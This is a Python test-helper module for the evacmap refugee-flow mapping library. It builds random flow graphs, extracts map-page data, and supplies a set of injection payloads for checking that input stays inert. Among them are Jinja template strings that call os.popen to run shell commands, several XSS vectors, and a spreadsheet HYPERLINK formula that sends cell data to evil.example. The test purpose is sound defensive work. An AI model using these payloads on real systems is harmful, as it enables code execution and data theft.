"""Helpers for testing and benchmarking code that uses evacmap.

Examples
--------
>>> g = random_flow_graph(20, seed=1)
>>> len(g), len(g.places) <= 10
(20, True)
"""

from __future__ import annotations

import datetime as dt
import json
import random
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from typing import Any

from evacmap.flows import FlowGraph
from evacmap.model import Movement, Place

__all__ = ["hostile_texts", "map_data", "random_flow_graph", "text_of_html"]


def random_flow_graph(
    n: int,
    *,
    seed: int = 7,
    max_count: int = 5000,
    dates: Sequence[dt.date] = (),
    group_every: int = 0,
    extra: Sequence[Movement] = (),
) -> FlowGraph:
    """A reproducible graph of `n` single-destination flows between places in and around Syria.

    Parameters
    ----------
    n
        Number of movements.
    seed
        Seed of the random generator (the same seed gives the same graph).
    max_count
        The largest count drawn (counts run from 10).
    dates
        Dates given to the movements in turn (none when empty).
    group_every
        Every this many movements (from the first) says 5 of its people are civilians.
    extra
        Movements added after the random ones.

    Returns
    -------
    FlowGraph
        ``max(10, n // 5)`` places named ``P0``, ``P1``…, and `n` movements of 10 to
        5,000 people between two of them.

    Examples
    --------
    >>> random_flow_graph(0).movements
    ()
    """
    rng = random.Random(seed)
    places = [
        Place(f"P{i}", rng.uniform(32.5, 37.2), rng.uniform(35.8, 42.0), id=f"p{i}")
        for i in range(max(10, n // 5))
    ]
    movements = []
    for i in range(n):
        o, d = rng.sample(places, 2)
        movements.append(
            Movement(
                o, (d,), count=rng.randint(10, max_count), id=f"m{i}",
                date_start=dates[i % len(dates)] if dates else None,
                groups=(("civilians", 5),) if group_every and i % group_every == 0 else (),
            )
        )
    return FlowGraph([*movements, *extra])


class _PageParser(HTMLParser):
    """Collects the JSON data blocks and the inline scripts of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.blocks: dict[str, str] = {}
        self.scripts: list[str] = []
        self._open: tuple[str | None, list[str]] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            a = dict(attrs)
            block_id = a.get("id") if a.get("type") == "application/json" else None
            self._open = (block_id, [])

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            self._open[1].append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._open is not None:
            block_id, parts = self._open
            if block_id is not None:
                self.blocks[block_id] = "".join(parts)
            else:
                self.scripts.append("".join(parts))
            self._open = None


_FROM_PAGE = re.compile(r'L\.evacmap\.fromPage\(L\.evacmap\.(\w+), "([\w-]+)"\)')


def map_data(page: str) -> dict[str, list[dict[str, Any]]]:
    """The data of every evacmap element in a rendered map page, by factory name.

    The page is parsed as HTML (as a browser would split it into elements), each
    ``<script type="application/json">`` block is decoded, and the blocks are matched
    to the plugin factories the page's scripts call with them.

    Parameters
    ----------
    page
        The HTML of a map (``m.get_root().render()`` or a saved file).

    Returns
    -------
    dict
        For each factory (``"flowLayer"``, ``"placeLayer"``, ``"legend"``, ``"title"``,
        ...), the payloads ``{"data": ..., "options": ...}`` in page order.

    Examples
    --------
    >>> from evacmap.render import render_map
    >>> page = render_map(random_flow_graph(3), title="{{ 7*7 }}").get_root().render()
    >>> map_data(page)["title"][0]["data"]
    '{{ 7*7 }}'
    >>> map_data("<html></html>")
    {}
    """
    parser = _PageParser()
    parser.feed(page)
    parser.close()
    out: dict[str, list[dict[str, Any]]] = {}
    for script in parser.scripts:
        for factory, block_id in _FROM_PAGE.findall(script):
            out.setdefault(factory, []).append(json.loads(parser.blocks[block_id]))
    return out


def hostile_texts(marker: str) -> dict[str, str]:
    """Texts that must stay text: template, HTML, script and formula payloads.

    Every text a table, an article or a places file gives evacmap is data; these are
    the usual ways to make it code. The template payloads that would run Python try
    to create the file `marker` (a test checks that it never appears); the browser
    payloads set ``window.__evacmapPwned``. Each payload is wrapped in ``X…X`` so that
    trimming cells does not change it.

    Parameters
    ----------
    marker
        A path that a payload which ran would create.

    Returns
    -------
    dict
        A short label for each payload, and the payload.

    Examples
    --------
    >>> texts = hostile_texts("/tmp/never")
    >>> texts["jinja_expression"]
    'X{{7*7}}X'
    >>> all(t.startswith("X") and t.endswith("X") for t in texts.values())
    True
    """
    popen = "cycler.__init__.__globals__.os.popen"
    payloads = {
        "jinja_expression": "{{7*7}}",
        "jinja_statement": "{% for i in range(3) %}{{ i }}{% endfor %}",
        "jinja_comment": "{# hidden",
        "jinja_rce": f"{{{{ {popen}('touch {marker}').read() }}}}",
        "jinja_rce_id": f"{{{{ {popen}(dict(id=1)|first).read() }}}}",
        "jinja_lone_open": "UNHCR update {{ draft",
        "jinja_lone_close": "}} and %} and #}",
        "braces": "{ } {0} %s %(name)s ${x} `${x}`",
        "img_onerror": "<img src=x onerror=window.__evacmapPwned=1>",
        "script_close": "</script><script>window.__evacmapPwned=2</script>",
        "attribute_break": '"><svg onload=window.__evacmapPwned=3>',
        "javascript_link": "<a href=\"javascript:window.__evacmapPwned=4\">link</a>",
        "comment_script": "<!--<script>window.__evacmapPwned=5</script>-->",
        "style": "<style>body{display:none}</style>",
        "line_separator_title": "\u2028</title><script>window.__evacmapPwned=6</script>\u2029",
        "quotes_backslash": "it's \\ \"quoted\" \\u003c",
        "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "arabic_rtl": "\u202eحمص\u202c & <b>",
    }
    return {k: f"X{v}X" for k, v in payloads.items()}


class _TextParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def text_of_html(fragment: str) -> str:
    """The text a browser shows for an HTML fragment (tags dropped, entities decoded).

    Examples
    --------
    >>> text_of_html("<b>&lt;b&gt; A</b><br>3 people")
    '<b> A3 people'
    """
    parser = _TextParser()
    parser.feed(fragment)
    parser.close()
    return "".join(parser.parts)
